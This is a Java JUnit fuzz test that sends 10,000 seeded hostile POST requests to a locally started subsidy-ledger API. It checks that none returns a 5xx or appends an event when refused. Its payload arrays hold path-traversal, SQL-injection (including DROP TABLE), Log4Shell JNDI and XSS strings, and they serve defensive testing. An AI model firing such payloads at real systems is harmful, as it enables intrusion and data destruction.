package org.subsidyledger.api.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.interfaces.RSAPrivateKey;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.jdbc.core.JdbcTemplate;
import org.subsidyledger.api.LedgerApplication;

/**
 * A seeded fuzz of the command endpoints as the national admin: wrong types, huge numbers, unicode tricks, path
 * traversal ids, SQL and JSON injection strings, duplicated keys, deep nesting. No answer is a 5xx, no refused request
 * appends an event, and the ledger is healthy afterwards.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileFuzzTest {
    private static final long SEED = 0x5EC_F022L;
    private static final int REQUESTS = 10_000;

    @TempDir
    static Path dataDirectory;

    private ConfigurableApplicationContext context;
    private JdbcTemplate jdbc;
    private HttpClient http;
    private String base;
    private String national;

    @BeforeAll
    void start() throws Exception {
        KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
        generator.initialize(2048);
        KeyPair keys = generator.generateKeyPair();
        Path pem = dataDirectory.resolve("jwt.pem");
        Files.writeString(
                pem,
                "-----BEGIN PUBLIC KEY-----\n"
                        + Base64.getMimeEncoder(64, new byte[] {'\n'})
                                .encodeToString(keys.getPublic().getEncoded()) + "\n-----END PUBLIC KEY-----\n");
        String[] arguments = {
            "--spring.datasource.url=jdbc:h2:file:"
                    + dataDirectory.resolve("ledger").toAbsolutePath()
                    + ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH;LOCK_TIMEOUT=10000",
            "--server.port=0",
            "--server.address=127.0.0.1",
            "--ledger.expiry.enabled=false",
            "--ledger.kafka.enabled=false",
            "--spring.main.banner-mode=off",
            "--ledger.security.jwt.public-key=" + pem.toAbsolutePath()
        };
        Clock clock = Clock.fixed(SecurityMatrixTest.START, ZoneOffset.UTC);
        context = new SpringApplicationBuilder(LedgerApplication.class)
                .initializers(c -> c.getBeanFactory().registerSingleton("clock", clock))
                .run(arguments);
        jdbc = context.getBean(JdbcTemplate.class);
        base = "http://127.0.0.1:" + context.getEnvironment().getRequiredProperty("local.server.port");
        http = HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(Duration.ofSeconds(5))
                .build();
        SignedJWT jwt = new SignedJWT(
                new JWSHeader(JWSAlgorithm.RS256),
                new JWTClaimsSet.Builder()
                        .subject("fuzzer")
                        .claim("role", "NATIONAL_ADMIN")
                        .issueTime(Date.from(Instant.now()))
                        .expirationTime(Date.from(Instant.now().plus(Duration.ofHours(1))))
                        .build());
        jwt.sign(new RSASSASigner((RSAPrivateKey) keys.getPrivate()));
        national = "Bearer " + jwt.serialize();

        post(
                "/api/v1/programs",
                SecurityMatrixTest.voucherProgramJson("fz-zj", "COMPUTE_VOUCHER", "CN-ZJ", "Hangzhou"),
                201);
        post("/api/v1/programs/fz-zj/appropriations", SecurityMatrixTest.appropriationJson("1000000.00", "pool"), 200);
        post(
                "/api/v1/providers",
                SecurityMatrixTest.accreditJson("fz-prov", "COMPUTE", SecurityMatrixTest.usccOf(424242)),
                201);
        post(
                "/api/v1/programs/fz-zj/vouchers",
                SecurityMatrixTest.issueJson("fz-v", SecurityMatrixTest.usccOf(434343), "10000.00"),
                201);
    }

    @AfterAll
    void stop() {
        if (context != null) {
            context.close();
        }
    }

    private static final String[] PATHS = {
        "/api/v1/programs",
        "/api/v1/programs/{p}/appropriations",
        "/api/v1/programs/{p}/rescissions",
        "/api/v1/programs/{p}/closure",
        "/api/v1/programs/{p}/vouchers",
        "/api/v1/vouchers/{v}/compute-redemptions",
        "/api/v1/vouchers/{v}/model-redemptions",
        "/api/v1/vouchers/{v}/revocation",
        "/api/v1/vouchers/{v}/redemptions/{r}/settlement",
        "/api/v1/programs/{p}/housing-grants",
        "/api/v1/housing-grants/{g}/claims",
        "/api/v1/housing-grants/{g}/termination",
        "/api/v1/providers",
        "/api/v1/providers/{p}/withdrawal",
        "/api/v1/models",
        "/api/v1/models/{m}/deregistration"
    };

    private static final String[] HOSTILE_IDS = {
        "..",
        "%2e%2e",
        "..%2f..%2fetc%2fpasswd",
        "%252e%252e",
        "x%00",
        "%E2%80%AE",
        "%F0%9F%92%A3",
        "%27%20OR%201%3D1%20--",
        "a%20b",
        "%22%7D",
        "no-such-id",
        "fz-zj%3B",
        "%C0%AE%C0%AE",
        "x".repeat(300)
    };

    private static final String[] HOSTILE_VALUES = {
        "1",
        "-1",
        "0",
        "true",
        "null",
        "[]",
        "{}",
        "1e999999",
        "-1e999999",
        "99999999999999999999999999999999.99",
        "\"99999999999999999999999999999999.99\"",
        "\"NaN\"",
        "\"Infinity\"",
        "\"-0.001\"",
        "\"1e3\"",
        "\"\\u202Eevil\"",
        "\"\\u0000\"",
        "\"\\ud800\"",
        "\"\\u200b\"",
        "\"СN-ZJ\"",
        "\"CN-ZJ\\u0000\"",
        "\"' OR '1'='1\"",
        "\"'); DROP TABLE domain_event_entry; --\"",
        "\"\\\"}, {\\\"amount\\\": 1\"",
        "\"../../etc/passwd\"",
        "\"${jndi:ldap://x/a}\"",
        "\"<script>alert(1)</script>\"",
        "\"" + "A".repeat(5000) + "\"",
        "{\"amount\": \"1.00\", \"currency\": \"XXX\"}",
        "{\"amount\": 1.00, \"currency\": \"CNY\"}",
        "{\"amount\": \"1.001\", \"currency\": \"CNY\"}",
        "[".repeat(2000) + "]".repeat(2000),
        "{\"a\":".repeat(1500) + "1" + "}".repeat(1500)
    };

    private static final String[] FIELDS = {
        "programId",
        "name",
        "kind",
        "province",
        "city",
        "currency",
        "rules",
        "amount",
        "reference",
        "reason",
        "voucherId",
        "beneficiary",
        "faceValue",
        "redemptionId",
        "contractRef",
        "invoiceRef",
        "providerId",
        "invoiceAmount",
        "gpuHours",
        "paymentRef",
        "grantId",
        "recipient",
        "startMonth",
        "monthlyRent",
        "month",
        "rentPaid",
        "leaseRef",
        "effectiveMonth",
        "id",
        "filingNo",
        "vendorId",
        "usage"
    };

    @Test
    void tenThousandHostileRequestsNeverFailTheLedger() throws Exception {
        Random random = new Random(SEED);
        Map<String, Integer> tally = new TreeMap<>();
        List<String> failures = new ArrayList<>();
        long started = System.nanoTime();
        for (int n = 0; n < REQUESTS; n++) {
            String path = PATHS[random.nextInt(PATHS.length)];
            String id = random.nextInt(3) == 0 ? HOSTILE_IDS[random.nextInt(HOSTILE_IDS.length)] : null;
            path = path.replace("{p}", id != null ? id : "fz-zj")
                    .replace("{v}", id != null ? id : "fz-v")
                    .replace("{r}", "fz-r")
                    .replace("{g}", id != null ? id : "fz-g")
                    .replace("{m}", id != null ? id : "fz-m");
            String body = hostileBody(random);
            long before = eventCount();
            HttpResponse<String> response;
            try {
                response = http.send(
                        HttpRequest.newBuilder(URI.create(base + path))
                                .timeout(Duration.ofSeconds(30))
                                .header("Authorization", national)
                                .header("Content-Type", "application/json")
                                .POST(HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8))
                                .build(),
                        HttpResponse.BodyHandlers.ofString());
            } catch (IllegalArgumentException e) {
                tally.merge("unsendable", 1, Integer::sum); // the client itself refuses the URI
                continue;
            }
            int status = response.statusCode();
            tally.merge(String.valueOf(status), 1, Integer::sum);
            String label = "#" + n + " POST " + path + " " + abbreviate(body) + " -> " + status + " "
                    + abbreviate(response.body());
            if (status >= 500) {
                failures.add(label);
            } else if (status >= 400) {
                if (eventCount() != before) {
                    failures.add("event appended by a refused request: " + label);
                }
                if (!response.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json")) {
                    failures.add("not problem+json: " + label);
                }
            }
        }
        long seconds = Duration.ofNanos(System.nanoTime() - started).toSeconds();
        System.out.println("hostile fuzz: " + REQUESTS + " requests in " + seconds + " s, " + tally);
        failures.stream().limit(50).forEach(f -> System.out.println("FUZZ FAILURE: " + f));
        assertThat(failures)
                .as("5xx, events appended by refusals, or non-problem answers")
                .isEmpty();

        HttpResponse<String> health = http.send(
                HttpRequest.newBuilder(URI.create(base + "/actuator/health"))
                        .GET()
                        .build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(health.statusCode()).as(health.body()).isEqualTo(200);
        post("/api/v1/programs/fz-zj/appropriations", SecurityMatrixTest.appropriationJson("1.00", "after"), 200);
    }

    private static String hostileBody(Random random) {
        String field = FIELDS[random.nextInt(FIELDS.length)];
        String value = HOSTILE_VALUES[random.nextInt(HOSTILE_VALUES.length)];
        return switch (random.nextInt(6)) {
            case 0 -> "{\"" + field + "\": " + value + "}";
            case 1 -> "{\"" + field + "\": " + value + ", \"" + field + "\": " + value + "}"; // duplicated key
            case 2 ->
                "{\"amount\": {\"amount\": " + value + ", \"currency\": \"CNY\"}, \"reference\": \"r\","
                        + " \"reference\": \"s\"}";
            case 3 -> "{\"reason\": " + value + ", \"effectiveMonth\": " + value + ", \"paymentRef\": " + value + "}";
            case 4 -> value;
            default ->
                "{\"" + field + "\": " + value + ", \"amount\": {\"amount\": \"1.00\", \"currency\": \"CNY\","
                        + " \"currency\": \"USD\"}, \"reason\": \"r\", \"reference\": \"r\", \"" + field + "\": "
                        + value + "}";
        };
    }

    private static String abbreviate(String s) {
        return s.length() > 200 ? s.substring(0, 200) + "…(" + s.length() + ")" : s;
    }

    private long eventCount() {
        return jdbc.queryForObject("SELECT COUNT(*) FROM domain_event_entry", Long.class);
    }

    private void post(String path, String body, int expected) throws Exception {
        HttpResponse<String> response = http.send(
                HttpRequest.newBuilder(URI.create(base + path))
                        .header("Authorization", national)
                        .header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofString(body))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode())
                .as("%s %s -> %s", path, body, response.body())
                .isEqualTo(expected);
    }
}
